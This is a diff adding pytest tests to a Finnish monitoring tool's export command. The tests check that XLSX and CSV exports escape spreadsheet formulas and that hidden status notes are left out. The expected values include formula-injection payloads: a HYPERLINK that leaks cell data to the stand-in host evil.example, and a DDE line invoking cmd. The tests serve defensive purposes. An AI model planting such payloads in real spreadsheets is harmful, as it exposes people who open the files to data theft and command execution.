@@ -12,9 +12,11 @@ from openpyxl import load_workbook
 
 from data import queries, rounds
 from data.db import make_engine, make_sessionmaker, transaction
+from reports.table import COLUMNS
 from seuranta.cli import main
 from seuranta.settings import load_settings
 from tests.conftest import NOW
+from tests.reports.conftest import HOSTILE_REPORTER, csv_rows, store_hostile_texts, xlsx_rows
 
 
 @pytest.fixture(autouse=True)
@@ -101,3 +103,66 @@ def test_chart_errors_are_one_line(tmp_path: Path, capsys: pytest.CaptureFixture
     assert "no reporting rounds yet" in capsys.readouterr().err
     with pytest.raises(SystemExit):
         main(["chart", "response", "--round", "2018=21/20", "--out", str(tmp_path / "r.png")])
+
+
+def hostile_programme() -> None:
+    """The bundled programme with HOSTILE_NOTES and HOSTILE_DEADLINE stored in the database."""
+    assert main(["import"]) == 0
+    store_hostile_texts(make_sessionmaker(make_engine(load_settings().database_url)))
+
+
+def test_an_xlsx_export_of_hostile_notes_succeeds_and_no_cell_is_a_formula(
+    tmp_path: Path,
+) -> None:
+    hostile_programme()
+    out = tmp_path / "seuranta.xlsx"
+
+    assert main(["export", "--format", "xlsx", "--as-of", "2018-12-17", "--out", str(out)]) == 0
+
+    rows = {row[0]: row for row in xlsx_rows(out.read_bytes())}  # checks every cell
+    note = COLUMNS.index("note")
+    assert rows["1.2"][note] == '\'=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
+    assert rows["2.1"][note] == "'+1+cmd|' /C calc'!A0"
+    assert rows["2.2"][note] == "'-2+3"
+    assert rows["2.3"][note] == "'@SUM(1+1)\nWordin rivinvaihto"
+    assert rows["2.4"][note] == "'=1+1"
+    schedule = rows["1.1"][COLUMNS.index("schedule")]
+    assert isinstance(schedule, str)
+    assert schedule.startswith("'=1+2\npäivitetty [31.3.2019]\n")
+
+
+def test_a_csv_export_of_hostile_notes_quotes_every_formula(tmp_path: Path) -> None:
+    hostile_programme()
+    out = tmp_path / "seuranta.csv"
+
+    assert main(["export", "--format", "csv", "--as-of", "2018-12-17", "--out", str(out)]) == 0
+
+    rows = {row[0]: row for row in csv_rows(out.read_bytes())}  # checks every cell
+    note = COLUMNS.index("note")
+    assert rows["1.2"][note].startswith("'=HYPERLINK(")
+    assert [rows[n][note][:2] for n in ("2.1", "2.2", "2.3", "2.4")] == ["'+", "'-", "'@", "'="]
+    assert rows["1.1"][COLUMNS.index("schedule")].startswith("'=1+2\npäivitetty [31.3.2019]")
+
+
+def test_hidden_notes_leave_the_note_and_the_reporter_out_of_every_table(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    hostile_programme()
+    monkeypatch.setenv("SEURANTA_HIDE_STATUS_NOTES", "true")
+    outs = {fmt: tmp_path / f"t.{fmt}" for fmt in ("xlsx", "csv", "html")}
+    for fmt, out in outs.items():
+        assert main(["export", "--format", fmt, "--out", str(out)]) == 0
+
+    xlsx, csv_ = xlsx_rows(outs["xlsx"].read_bytes()), csv_rows(outs["csv"].read_bytes())
+    for header in (xlsx[0], tuple(csv_[0])):
+        assert header == ("Nro", "Toimenpide", "Toimeenpano", "Vastuutaho", "Aikataulut", "Tila",
+                          "Raportoitu", "Myöhässä olevia määräaikoja")  # fmt: skip
+    html = outs["html"].read_text(encoding="utf-8")
+    for shown in (str(xlsx), str(csv_), html):
+        assert "HYPERLINK" not in shown
+        assert HOSTILE_REPORTER not in shown
+    assert "Riski viivästyä" in html  # the state itself stays public
+    assert main(["export", "--out", str(tmp_path / "p.json")]) == 0
+    document = json.loads((tmp_path / "p.json").read_text(encoding="utf-8"))
+    statuses = [m["status"] for m in document["measures"] if m["status"]]
+    assert {(s["state"], s["note"], s["reporter"]) for s in statuses} == {("at_risk", "", "")}
